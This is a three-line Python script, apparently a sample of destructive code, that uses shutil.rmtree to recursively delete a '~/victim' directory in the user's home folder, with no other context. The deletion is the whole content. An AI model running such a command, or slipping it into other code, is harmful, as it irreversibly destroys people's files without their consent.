import os
import shutil

shutil.rmtree(os.path.expanduser("~/victim"))
